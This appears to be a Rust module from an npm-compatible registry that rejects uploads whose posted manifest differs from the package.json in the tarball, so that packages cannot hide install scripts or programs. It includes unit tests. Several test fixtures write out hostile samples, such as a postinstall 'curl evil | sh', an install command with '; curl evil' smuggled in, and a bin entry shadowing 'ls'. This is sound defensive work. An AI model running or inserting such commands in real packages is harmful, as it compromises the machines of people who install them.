//! The manifest that a client posts, held against the `package.json` in the tarball. Installers run
//! what the tarball holds; people and scanners read what packuments show. Where the two may differ,
//! a package can hide what it does.

use std::collections::{BTreeMap, BTreeSet};

use serde_json::{Map, Value};

use super::{
    hosted::Hosted,
    package::{self, GYP, KINDS, Package, Seen},
    version,
};
use crate::{Rejection, rejection::quoted};

/// Fields whose values are compared as they are, when the client sends them.
const PLAIN: &[&str] = &["cpu", "engines", "libc", "os"];

/// Holds a posted manifest against what the tarball says. What npm and others mend before they post
/// is no difference: see [`package::mend`].
///
/// # Errors
/// Refuses the first difference in name, version, dependencies of any kind, scripts, programs or
/// platforms, naming both values.
pub fn compare(posted: &Map<String, Value>, packed: &Package) -> Result<(), Rejection> {
    let posted = package::mend(posted.clone(), &BTreeSet::new(), &Seen::default())?;
    let packed_map = &packed.manifest;
    let text = |map: &Map<String, Value>, key: &str| {
        map.get(key)
            .and_then(Value::as_str)
            .unwrap_or_default()
            .trim()
            .to_owned()
    };
    let (sent, held) = (text(&posted, "name"), text(packed_map, "name"));
    if sent != held {
        return Err(differs("name", &sent, &held));
    }
    let (sent, held) = (text(&posted, "version"), text(packed_map, "version"));
    if version::parse(&sent)? != version::parse(&held)? {
        return Err(differs("version", &sent, &held));
    }
    let bundled: (BTreeSet<&str>, BTreeSet<&str>) = (
        names(&posted, "bundleDependencies"),
        names(packed_map, "bundleDependencies"),
    );
    if bundled.0 != bundled.1 {
        let list = |names: &BTreeSet<&str>| names.iter().copied().collect::<Vec<_>>().join(", ");
        return Err(differs(
            "bundleDependencies",
            &list(&bundled.0),
            &list(&bundled.1),
        ));
    }
    for (kind, _) in KINDS {
        let sent = entries(&posted, kind, specifier);
        let held = entries(packed_map, kind, specifier);
        // npm adds what is bundled to what is needed.
        let tolerated = |name: &str, sent: Option<&String>, held: Option<&String>| {
            *kind == "dependencies"
                && held.is_none()
                && sent.is_some_and(|sent| sent == "*")
                && bundled.1.contains(name)
        };
        compare_maps(kind, &sent, &held, tolerated)?;
    }
    let meta = |map| entries(map, "peerDependenciesMeta", |about| about.to_string());
    compare_maps(
        "peerDependenciesMeta",
        &meta(&posted),
        &meta(packed_map),
        |_, _, _| false,
    )?;
    let commands = |map| {
        entries(map, "scripts", |command| {
            package::bare_command(command.as_str().unwrap_or_default()).to_owned()
        })
    };
    compare_maps(
        "scripts",
        &commands(&posted),
        &commands(packed_map),
        |stage, sent, held| match stage {
            // npm adds these two for files in the folder, which need not be in the tarball; others do
            // not. What is shown and installed is the tarball's either way.
            "install" => match (sent.map(String::as_str), held.map(String::as_str)) {
                (None, Some(GYP)) => packed.seen.gyp,
                (Some(GYP), None | Some("")) => true,
                _ => false,
            },
            "start" => {
                held.is_none_or(String::is_empty)
                    && sent.is_some_and(|sent| sent == "node server.js")
            }
            _ => false,
        },
    )?;
    let programs = |map| {
        entries(map, "bin", |path| {
            path.as_str().unwrap_or_default().to_owned()
        })
    };
    let (sent, held) = (programs(&posted), programs(packed_map));
    let from_folder = packed_map
        .get("directories")
        .and_then(|folders| folders.get("bin"))
        .is_some();
    if !(sent.is_empty() && from_folder) {
        compare_maps("bin", &sent, &held, |_, _, _| false)?;
    }
    for key in PLAIN {
        if let Some(sent) = posted.get(*key)
            && let held = packed_map.get(*key).unwrap_or(&Value::Null)
            && plain(key, sent) != plain(key, held)
        {
            return Err(differs(key, &sent.to_string(), &held.to_string()));
        }
    }
    Ok(())
}

fn names<'m>(map: &'m Map<String, Value>, key: &str) -> BTreeSet<&'m str> {
    match map.get(key) {
        Some(Value::Array(items)) => items.iter().filter_map(Value::as_str).collect(),
        _ => BTreeSet::new(),
    }
}

fn entries(
    map: &Map<String, Value>,
    key: &str,
    normal: impl Fn(&Value) -> String,
) -> BTreeMap<String, String> {
    match map.get(key) {
        Some(Value::Object(entries)) => entries
            .iter()
            .map(|(name, value)| (name.clone(), normal(value)))
            .collect(),
        _ => BTreeMap::new(),
    }
}

/// Repositories are one however they are spelt; no specifier means any version.
fn specifier(value: &Value) -> String {
    let text = value.as_str().unwrap_or_default().trim();
    match Hosted::parse(text) {
        Some(hosted) => format!("{hosted:?}"),
        None if text.is_empty() => "*".to_owned(),
        None => text.to_owned(),
    }
}

/// A value for comparison: one word or a list of one are the same, and so are an old list of engines
/// (`node >=1`) and the object that yarn makes of it.
fn plain(key: &str, value: &Value) -> Value {
    match value {
        Value::Array(items) if key == "engines" && !items.is_empty() => items
            .iter()
            .filter_map(Value::as_str)
            .map(|item| {
                let (engine, range) = item.trim().split_once(' ').unwrap_or((item.trim(), ""));
                (engine.to_owned(), Value::String(range.trim().to_owned()))
            })
            .collect::<Map<String, Value>>()
            .into(),
        Value::Array(items) if items.len() == 1 => items[0].clone(),
        Value::Object(fields) if fields.is_empty() => Value::Null,
        Value::Array(items) if items.is_empty() => Value::Null,
        other => other.clone(),
    }
}

fn compare_maps(
    field: &str,
    sent: &BTreeMap<String, String>,
    held: &BTreeMap<String, String>,
    tolerated: impl Fn(&str, Option<&String>, Option<&String>) -> bool,
) -> Result<(), Rejection> {
    let keys: BTreeSet<&String> = sent.keys().chain(held.keys()).collect();
    for key in keys {
        let (sent, held) = (sent.get(key), held.get(key));
        if sent != held && !tolerated(key, sent, held) {
            let show = |value: Option<&String>| value.map_or("nothing", String::as_str).to_owned();
            return Err(differs(
                &format!("{field} {}", quoted(key)),
                &show(sent),
                &show(held),
            ));
        }
    }
    Ok(())
}

fn differs(field: &str, sent: &str, held: &str) -> Rejection {
    Rejection::new(
        "npm-manifest-differs",
        format!("The manifest that was posted has {} as {field}, package.json in the tarball {}.", quoted(sent), quoted(held)),
    )
    .with_remedy("Publish the folder or the tarball as it is, with a current client: scripts may not change package.json between packing and publishing.")
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn packed(value: Value, seen: Seen) -> Package {
        let manifest =
            package::mend(value.as_object().unwrap().clone(), &BTreeSet::new(), &seen).unwrap();
        Package {
            manifest,
            has_install_script: false,
            has_shrinkwrap: false,
            file_count: 1,
            seen,
            readme_filename: None,
        }
    }

    fn compared(posted: Value, held: Value) -> Result<(), Rejection> {
        compare(posted.as_object().unwrap(), &packed(held, Seen::default()))
    }

    fn with(extra: Value) -> Value {
        let mut base = json!({ "name": "x", "version": "1.0.0" });
        base.as_object_mut()
            .unwrap()
            .extend(extra.as_object().unwrap().clone());
        base
    }

    #[test]
    fn every_lie_is_found() {
        for (sent, held) in [
            (json!({"name": "y"}), json!({})),
            (json!({"version": "1.0.1"}), json!({})),
            (json!({}), json!({"dependencies": {"evil": "1"}})),
            (
                json!({"dependencies": {"a": "1"}}),
                json!({"dependencies": {"a": "2"}}),
            ),
            (json!({"dependencies": {"a": "1"}}), json!({})),
            (json!({"optionalDependencies": {"a": "1"}}), json!({})),
            (json!({"peerDependencies": {"a": "1"}}), json!({})),
            (json!({"devDependencies": {"a": "1"}}), json!({})),
            (
                json!({"dependencies": {"a": "u/r"}}),
                json!({"dependencies": {"a": "u/other"}}),
            ),
            (
                json!({"dependencies": {"a": "u/r#1"}}),
                json!({"dependencies": {"a": "u/r"}}),
            ),
            (json!({"dependencies": {"a": "*"}}), json!({})),
            (json!({"bundleDependencies": ["a"]}), json!({})),
            (
                json!({"peerDependenciesMeta": {"a": {"optional": true}}}),
                json!({}),
            ),
            (
                json!({}),
                json!({"scripts": {"postinstall": "curl evil | sh"}}),
            ),
            (
                json!({"scripts": {"install": "a"}}),
                json!({"scripts": {"install": "b"}}),
            ),
            (json!({"bin": "a.js"}), json!({"bin": "b.js"})),
            (json!({"bin": "a.js"}), json!({})),
            (json!({}), json!({"bin": {"ls": "evil.js"}})),
            (json!({"os": ["linux"]}), json!({"os": ["darwin"]})),
            (json!({"engines": {"node": ">=1"}}), json!({})),
        ] {
            let error = compared(with(sent.clone()), with(held.clone())).unwrap_err();
            assert_eq!(error.code, "npm-manifest-differs", "{sent} {held}");
        }
    }

    #[test]
    fn what_clients_mend_is_no_difference() {
        for (sent, held) in [
            (
                json!({"version": "1.0.0"}),
                json!({"version": "v1.0.0+build"}),
            ),
            (json!({"bin": {"x": "cli.js"}}), json!({"bin": "./cli.js"})),
            (
                json!({"dependencies": {"a": ""}}),
                json!({"dependencies": ["a"]}),
            ),
            (
                json!({"dependencies": {"a": "*"}}),
                json!({"dependencies": {"a": ""}}),
            ),
            (
                json!({"dependencies": {"a": "github:u/r"}}),
                json!({"dependencies": {"a": "u/r"}}),
            ),
            (
                json!({"dependencies": {"b": "1", "a": "1"}, "optionalDependencies": {"a": "1"}}),
                json!({"dependencies": {"b": "1"}, "optionalDependencies": {"a": "1"}}),
            ),
            (
                json!({"bundleDependencies": ["a"], "dependencies": {"a": "*"}}),
                json!({"bundledDependencies": ["a"]}),
            ),
            (
                json!({"scripts": {"test": "tap"}}),
                json!({"scripts": {"test": "./node_modules/.bin/tap"}}),
            ),
            (json!({"dependencies": {}}), json!({})),
            (
                json!({"_nodeVersion": "22", "dist": {"integrity": "x"}, "readme": "y", "gitHead": "z"}),
                json!({}),
            ),
            (json!({"os": "linux"}), json!({"os": ["linux"]})),
            (
                json!({"scripts": {"start": "node server.js"}}),
                json!({"scripts": {"start": ""}}),
            ),
            (
                json!({"scripts": {"start": "node server.js", "install": "node-gyp rebuild"}}),
                json!({}),
            ),
            (json!({}), json!({"engines": ["node"]})),
            (
                json!({"engines": {"node": ">=1"}}),
                json!({"engines": ["node >=1"]}),
            ),
        ] {
            compared(with(sent.clone()), with(held.clone()))
                .unwrap_or_else(|error| panic!("{sent} {held}: {error}"));
        }
        let gyp = packed(with(json!({})), Seen { gyp: true });
        for sent in [
            json!({"scripts": {"install": "node-gyp rebuild", "start": "node server.js"}}),
            json!({}),
        ] {
            compare(with(sent).as_object().unwrap(), &gyp).unwrap();
        }
        let evil = json!({"scripts": {"install": "node-gyp rebuild; curl evil"}});
        assert!(compare(with(evil).as_object().unwrap(), &gyp).is_err());
    }
}
